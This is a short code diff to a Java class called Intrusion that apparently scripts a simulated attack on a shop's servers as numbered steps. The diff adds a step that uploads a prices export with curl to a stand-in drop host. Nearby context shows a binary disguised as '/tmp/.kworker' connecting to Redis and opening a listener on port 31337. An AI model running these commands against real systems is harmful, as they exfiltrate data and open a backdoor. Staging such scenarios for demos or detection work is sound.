@@ -65,7 +65,11 @@ final class Intrusion {
             type(callback, "/tmp/.kworker connect " + shop.redis().ip() + " 6379 5 300");
             Thread.sleep(BETWEEN);
 
-            title(5, "a new listener");
+            title(5, "a name never asked for");
+            type(callback, "curl -s -m 2 -T /srv/shop/exports/prices.csv http://" + Town.DROP + "/");
+            Thread.sleep(BETWEEN);
+
+            title(6, "a new listener");
             type(callback, "/tmp/.kworker listen 31337 &");
             Thread.sleep(BETWEEN);
         } finally {
